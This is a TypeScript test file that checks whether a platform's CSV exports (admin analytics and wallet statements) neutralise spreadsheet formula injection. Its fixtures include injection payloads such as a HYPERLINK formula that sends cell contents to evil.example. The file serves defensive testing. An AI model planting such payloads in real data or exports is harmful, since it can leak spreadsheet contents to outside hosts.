/**
 * Formula injection (decision 0027): names people choose — nicknames, company names, category names,
 * bank names in a statement memo — reach the CSV exports; one that starts like a formula (=, +, -, @,
 * a tab or a carriage return) must arrive as text in Excel and WPS, never as a formula. Every export of
 * the product goes through src/server/platform/csv.ts; this drives each one through the API.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fundWallet, makeAdmin, makeCompany, makeInfluencer, makeTask, makeTaskCategory } from '../db/factories';
import { taskApplications } from '../db/schema';
import { ManualClock } from '../platform/clock';
import { Client, createTestApp, signedIn, type TestApp } from '../test/harness';

// 2026-11-20 12:00 in Shanghai
const NOW = new Date('2026-11-20T04:00:00Z');
const clock = new ManualClock(NOW);
let t: TestApp;
let admin: Client;

/** names a spreadsheet would run, and how each must appear in the file (one field, an apostrophe first: text) */
const HOSTILE: [string, string][] = [
  ['=HYPERLINK("http://evil.example/?"&A1,"点我")', `"'=HYPERLINK(""http://evil.example/?""&A1,""点我"")"`],
  ['+1', `'+1`],
  ['-2', `'-2`],
  ['@SUM(A1)', `'@SUM(A1)`],
  ['\t=1+1', `'\t=1+1`],
  ['\r=1+1', `"'\r=1+1"`],
  ['＝1+1', `'＝1+1`],
  [' =1+1', `' =1+1`],
];

/** the rows of a CSV answer (BOM removed; quoted fields may hold line breaks, so split on the row ends only) */
const bodyOf = (res: { statusCode: number; body: string; headers: Record<string, unknown> }) => {
  expect(res.statusCode, res.body).toBe(200);
  expect(String(res.headers['content-type'])).toContain('text/csv');
  return res.body.replace(/^\uFEFF/, '');
};

beforeAll(async () => {
  t = await createTestApp({ RATE_LIMIT_MAX: '0' }, { clock });
  admin = await signedIn(t.app, (await makeAdmin(t.app.ctx.db, { permissions: ['data_analytics'] })).email);
});
afterAll(async () => {
  await t?.close();
});

describe('CSV exports neutralise formulas', () => {
  it('数据分析: influencer nicknames, company names and category names', async () => {
    const db = t.app.ctx.db;
    const at = new Date(NOW.getTime() - 3600_000);
    for (const [name] of HOSTILE) {
      const inf = await makeInfluencer(db, { nickname: name });
      const co = await makeCompany(db, { companyName: name });
      const cat = await makeTaskCategory(db, { name });
      const task = await makeTask(db, { companyId: co.company.id, categoryId: cat.id, createdAt: at });
      await db
        .insert(taskApplications)
        .values({ taskId: task.id, influencerId: inf.influencer.id, proposedRateCents: 10_000, status: 'accepted', appliedAt: at, respondedAt: at });
    }
    const q = 'from=2026-11-20&to=2026-11-20';
    const influencers = bodyOf(await admin.get(`/api/admin/analytics.csv?chart=topInfluencers&${q}`));
    const companies = bodyOf(await admin.get(`/api/admin/analytics.csv?chart=topCompanies&${q}`));
    const categories = bodyOf(await admin.get(`/api/admin/analytics.csv?chart=categories&${q}`));
    for (const [name, cell] of HOSTILE) {
      for (const [label, csv] of [
        ['topInfluencers', influencers],
        ['topCompanies', companies],
        ['categories', categories],
      ] as const) {
        expect(csv, `${label}: ${JSON.stringify(name)}`).toContain(cell);
        // the bare name never starts a field
        expect(csv.includes(`,${name}`) || csv.includes(`\n${name}`), `${label}: ${JSON.stringify(name)} unguarded`).toBe(false);
      }
    }
    // numbers stay numbers, plain text stays plain
    expect(influencers.split('\r\n')[0]).toBe('influencer_id,nickname,accepted,completed');
    expect(influencers).toMatch(/,'-2,1,0\r\n/);
  });

  it('我的钱包 statement: a bank name in the memo; amounts (negative too) stay numbers', async () => {
    const db = t.app.ctx.db;
    const inf = await makeInfluencer(db);
    await fundWallet(db, { userId: inf.user.id, userType: 'influencer', cents: 50_000 });
    const c = await signedIn(t.app, inf.user.email);
    const bank = await c.post('/api/wallet/bank-accounts', {
      holderName: '王小雨',
      bankName: '=HYPERLINK("http://evil.example")',
      accountNumber: '6222021234567890123',
    });
    expect(bank.statusCode, bank.body).toBe(200);
    expect((await c.post('/api/wallet/payouts', { amountCents: 1234, bankAccountId: bank.json().bankAccount.id })).statusCode).toBe(200);
    const csv = bodyOf(await c.get('/api/wallet/statement.csv'));
    const payoutRow = csv.split('\r\n').find((r) => r.includes('payout_request'));
    expect(payoutRow).toMatch(/,payout_request,"'=HYPERLINK\(""http:\/\/evil\.example""\) •••• 0123",-1234,48766,,,$/);
    expect(csv.split('\r\n')[1]).toMatch(/,topup,.*,50000,50000,,,$/);
  });
});
